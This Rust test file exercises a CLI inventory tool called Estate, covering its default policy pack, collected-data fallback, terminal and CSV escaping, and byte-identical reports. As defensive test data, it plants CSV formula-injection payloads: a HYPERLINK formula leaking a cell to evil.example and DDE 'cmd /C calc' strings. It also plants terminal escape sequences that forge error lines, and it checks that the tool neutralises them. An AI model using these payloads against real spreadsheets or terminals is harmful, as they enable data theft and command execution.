//! What Estate writes and the defaults it carries: the shipped policy pack
//! outside the repository, collected data read by default, the terminal and
//! CSV escaping, the report's publishing and its determinism.

use std::path::Path;

use serde_json::Value;

use crate::{estate, json, root, run};

const AS_OF: &str = "2026-11-23";

/// `estate ARGS --inventory <repo>/inventory` with `cwd` as the working directory.
fn in_dir(cwd: &Path, args: &[&str]) -> crate::Run {
    run(estate()
        .current_dir(cwd)
        .arg("--inventory")
        .arg(root().join("inventory"))
        .args(args))
}

/// A directory holding only a copy of the repository's shipped pack (its
/// rule files and end-of-life snapshot, not the sample's waivers).
fn estate_with_the_packs_files() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let policies = dir.path().join("policies");
    std::fs::create_dir_all(policies.join("endoflife")).unwrap();
    for e in std::fs::read_dir(root().join("policies")).unwrap() {
        let p = e.unwrap().path();
        let name = p.file_name().unwrap().to_str().unwrap().to_string();
        if name.ends_with(".yaml") && name != "waivers.yaml" {
            std::fs::copy(&p, policies.join(name)).unwrap();
        }
    }
    std::fs::copy(
        root().join("policies/endoflife/products.json"),
        policies.join("endoflife/products.json"),
    )
    .unwrap();
    dir
}

#[test]
fn check_report_and_carbon_in_an_empty_directory_match_the_repositorys_pack() {
    let empty = tempfile::tempdir().unwrap();
    let repo = estate_with_the_packs_files();
    let check = |cwd: &Path| {
        let r = in_dir(
            cwd,
            &[
                "check",
                "--as-of",
                AS_OF,
                "--format",
                "json",
                "--fail-on",
                "none",
            ],
        );
        assert_eq!(r.code, 0, "{}", r.stderr);
        assert!(!r.stderr.contains("not found"), "{}", r.stderr);
        json(&r)
    };
    let (there, here) = (check(repo.path()), check(empty.path()));
    let findings = here["findings"].as_array().unwrap();
    assert!(findings.len() > 50, "{} findings", findings.len());
    assert_eq!(here["findings"], there["findings"]);
    assert_eq!(here["summary"], there["summary"]);

    let carbon = |cwd: &Path| {
        let r = in_dir(cwd, &["carbon", "--format", "json"]);
        assert_eq!(r.code, 0, "{}", r.stderr);
        json(&r)
    };
    assert_eq!(carbon(empty.path()), carbon(repo.path()));

    let report = |cwd: &Path| {
        let out = cwd.join("site");
        let r = run(estate()
            .current_dir(cwd)
            .arg("--inventory")
            .arg(root().join("inventory"))
            .args(["report", "--as-of", AS_OF, "--out"])
            .arg(&out));
        assert_eq!(r.code, 0, "{}", r.stderr);
        let data: Value =
            serde_json::from_str(&std::fs::read_to_string(out.join("data.json")).unwrap()).unwrap();
        let policies = std::fs::read_to_string(out.join("policies.html")).expect("a policies page");
        assert!(policies.contains("system-has-owner"));
        data["check"].clone()
    };
    let (here, there) = (report(empty.path()), report(repo.path()));
    assert!(
        here["findings"].as_array().is_some_and(|f| !f.is_empty()),
        "{here}"
    );
    assert_eq!(here, there);
}

#[test]
fn a_policy_folder_that_was_named_but_is_missing_is_an_error() {
    let empty = tempfile::tempdir().unwrap();
    let r = in_dir(empty.path(), &["check", "--policies", "nowhere"]);
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr.contains("policy directory `nowhere` not found"),
        "{}",
        r.stderr
    );
}

/// Copy `from` (a folder) to `to`.
fn copy_tree(from: &Path, to: &Path) {
    for e in walkdir::WalkDir::new(from) {
        let e = e.unwrap();
        let target = to.join(e.path().strip_prefix(from).unwrap());
        if e.file_type().is_dir() {
            std::fs::create_dir_all(&target).unwrap();
        } else {
            std::fs::copy(e.path(), &target).unwrap();
        }
    }
}

#[test]
fn what_estate_collect_stored_is_read_when_estate_yaml_lists_no_sources() {
    let dir = tempfile::tempdir().unwrap();
    copy_tree(
        &root().join("exports/aws"),
        &dir.path().join("out/collected/aws"),
    );
    let inventory = root().join("inventory");
    // (`estate sources` JSON, `estate carbon` run) with estate.yaml ending in `extra`.
    let yaml = |extra: &str| {
        std::fs::write(
            dir.path().join("estate.yaml"),
            format!("name: T\ninventory: {}\n{extra}", inventory.display()),
        )
        .unwrap();
        let sources = run(estate()
            .arg("--estate")
            .arg(dir.path())
            .args(["sources", "--format", "json"]));
        assert_eq!(sources.code, 0, "{}", sources.stderr);
        let carbon = run(estate()
            .arg("--estate")
            .arg(dir.path())
            .args(["carbon", "--format", "json"]));
        assert_eq!(carbon.code, 0, "{}", carbon.stderr);
        (json(&sources), carbon)
    };
    let note = "note: estate.yaml lists no `sources:`; reading what `estate collect` stored last: ";
    let (stored, by_default) = yaml("");
    assert!(by_default.stderr.contains(note), "{}", by_default.stderr);
    assert!(
        by_default.stderr.contains("out/collected/aws`"),
        "{}",
        by_default.stderr
    );
    assert!(stored.to_string().contains("318452906174"), "{stored}");
    let (named, listed) = yaml("sources:\n  - aws: out/collected/aws\n");
    assert!(!listed.stderr.contains(note), "{}", listed.stderr);
    assert_eq!(stored, named);
    assert_eq!(json(&by_default), json(&listed));
    // Listing none on purpose reads none.
    let (nothing, none) = yaml("sources: []\n");
    assert!(!none.stderr.contains(note), "{}", none.stderr);
    assert!(!nothing.to_string().contains("318452906174"), "{nothing}");
    assert_ne!(json(&none), json(&by_default));
}

#[test]
fn a_closed_stderr_ends_the_run_quietly_with_its_exit_code() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::copy(
        root().join("tests/bad-input/bad-date.yaml"),
        dir.path().join("bad-date.yaml"),
    )
    .unwrap();
    // A pipe whose reading end is already closed: every write to it is EPIPE.
    let (reader, writer) = std::io::pipe().unwrap();
    drop(reader);
    let status = estate()
        .arg("validate")
        .arg(dir.path())
        .stdout(std::process::Stdio::null())
        .stderr(writer)
        .status()
        .unwrap();
    assert_eq!(status.code(), Some(2), "not 101, a panic");
}

#[test]
fn control_characters_in_file_names_and_titles_never_reach_the_terminal_raw() {
    let dir = tempfile::tempdir().unwrap();
    // A file name that would forge an `error:` line and clear the screen.
    let name = "x\nerror: all clear\u{1b}[2J.yaml";
    std::fs::write(
        dir.path().join(name),
        "apiVersion: estate/v1\nkind: System\nmetadata:\n  name: crm\n  title: \"CRM\\e[31m\\rerror: forged\"\nspec:\n  lifecycle: { phase: active, end_of_life: 31/03/2028 }\n",
    )
    .unwrap();
    for color in ["never", "always"] {
        let r = run(estate()
            .args(["--color", color, "validate"])
            .arg(dir.path()));
        assert_eq!(r.code, 2, "{}", r.stderr);
        for line in r.stderr.lines() {
            assert!(
                !line.contains("all clear") || line.contains("x␊error: all clear␛[2J.yaml"),
                "{line:?}"
            );
        }
        assert!(
            !r.stderr.contains("[2J") || !r.stderr.contains("\u{1b}[2J"),
            "{:?}",
            r.stderr
        );
        assert!(
            r.stderr.starts_with("error: ")
                && r.stderr
                    .lines()
                    .next()
                    .unwrap()
                    .contains("x␊error: all clear␛[2J.yaml:7:"),
            "{:?}",
            r.stderr
        );
    }
    // The title, in a table on stdout.
    std::fs::write(
        dir.path().join(name),
        "apiVersion: estate/v1\nkind: System\nmetadata:\n  name: crm\n  title: \"CRM\\e[31m\\rerror: forged\"\n",
    )
    .unwrap();
    let r = run(estate()
        .arg("--inventory")
        .arg(dir.path())
        .args(["show", "system:crm"]));
    assert_eq!(r.code, 0, "{}", r.stderr);
    assert!(r.stdout.contains("CRM␛[31m␍error: forged"), "{}", r.stdout);
    assert!(
        !r.stdout.contains('\u{1b}') && !r.stdout.contains('\r'),
        "{:?}",
        r.stdout
    );
}

#[test]
fn a_cel_expression_of_2000_terms_is_a_located_error_not_a_stack_overflow() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("policies")).unwrap();
    let terms = vec!["1"; 2000].join(" + ");
    std::fs::write(
        dir.path().join("policies/extra.yaml"),
        format!(
            "apiVersion: estate/v1\nkind: Policy\nmetadata: {{ name: extra }}\nspec:\n  rules:\n    - id: probe\n      title: Probe\n      kinds: [System]\n      require: {terms} > 0\n      severity: low\n      category: governance\n      message: x\n"
        ),
    )
    .unwrap();
    let r = run(estate()
        .arg("--estate")
        .arg(dir.path())
        .arg("--inventory")
        .arg(root().join("inventory"))
        .arg("check"));
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(
        r.stderr
            .contains("extra.yaml:9:16: rule `probe`, require: `1 + 1"),
        "{}",
        r.stderr
    );
    assert!(
        r.stderr
            .contains("is too deep to evaluate safely: 2000 operators and brackets 0 deep"),
        "{}",
        r.stderr
    );
}

/// Every cell of every CSV file under `dir`: (file, cell).
fn csv_cells(dir: &Path) -> Vec<(String, String)> {
    let mut cells = Vec::new();
    for e in walkdir::WalkDir::new(dir) {
        let e = e.unwrap();
        if e.path().extension().is_some_and(|x| x == "csv") {
            let mut r = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_path(e.path())
                .unwrap();
            for rec in r.records() {
                for c in rec.unwrap().iter() {
                    cells.push((e.path().display().to_string(), c.to_string()));
                }
            }
        }
    }
    cells
}

#[test]
fn report_csv_cells_never_start_a_formula_and_numbers_stay_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let inventory = dir.path().join("inventory");
    std::fs::create_dir_all(&inventory).unwrap();
    std::fs::write(
        inventory.join("systems.yaml"),
        r#"apiVersion: estate/v1
kind: System
metadata:
  name: crm
  title: '=HYPERLINK("http://evil.example/?x="&A1,"click")'
spec:
  owner: team:ops
  domain: domain:core
  supplier: supplier:acme
---
apiVersion: estate/v1
kind: Team
metadata:
  name: ops
  title: "+cmd|' /C calc'!A0"
---
apiVersion: estate/v1
kind: Domain
metadata:
  name: core
  title: "-2+3"
---
apiVersion: estate/v1
kind: Supplier
metadata:
  name: acme
  title: "@SUM(1+1)*cmd|' /C calc'!A0"
spec: { category: software }
"#,
    )
    .unwrap();
    let out = dir.path().join("site");
    let r = run(estate()
        .current_dir(dir.path())
        .args(["report", "--as-of", AS_OF, "--out"])
        .arg(&out));
    assert_eq!(r.code, 0, "{}", r.stderr);
    let cells = csv_cells(&out);
    assert!(!cells.is_empty());
    let mut quoted = 0;
    for (file, c) in &cells {
        let live = c.starts_with(['=', '+', '@', '\t', '\r'])
            || (c.starts_with('-') && c.parse::<f64>().is_err());
        assert!(!live, "{file}: {c:?}");
        quoted += usize::from(c.starts_with("'=") || c.starts_with("'@") || c.starts_with("'+"));
    }
    assert!(
        quoted >= 3,
        "the titles are in the CSV files, quoted: {quoted}"
    );
}

/// Every file under `dir`, by path relative to it, with its bytes.
fn files(dir: &Path) -> std::collections::BTreeMap<String, Vec<u8>> {
    walkdir::WalkDir::new(dir)
        .into_iter()
        .map(Result::unwrap)
        .filter(|e| e.file_type().is_file())
        .map(|e| {
            (
                e.path().strip_prefix(dir).unwrap().display().to_string(),
                std::fs::read(e.path()).unwrap(),
            )
        })
        .collect()
}

#[test]
fn two_reports_of_the_same_estate_are_the_same_bytes_in_every_file() {
    let dir = tempfile::tempdir().unwrap();
    let report = |name: &str| {
        let out = dir.path().join(name);
        let r = run(estate()
            .current_dir(root())
            .args(["report", "--as-of", AS_OF, "--out"])
            .arg(&out));
        assert_eq!(r.code, 0, "{}", r.stderr);
        files(&out)
    };
    let (a, b) = (report("a"), report("b"));
    assert!(a.contains_key("map.html") && a.len() > 100, "{}", a.len());
    assert_eq!(a.keys().collect::<Vec<_>>(), b.keys().collect::<Vec<_>>());
    for (path, bytes) in &a {
        assert!(bytes == &b[path], "{path} differs between identical runs");
    }
    // Nothing was left beside the reports.
    let mut beside: Vec<String> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    beside.sort();
    assert_eq!(beside, ["a", "b"]);
}
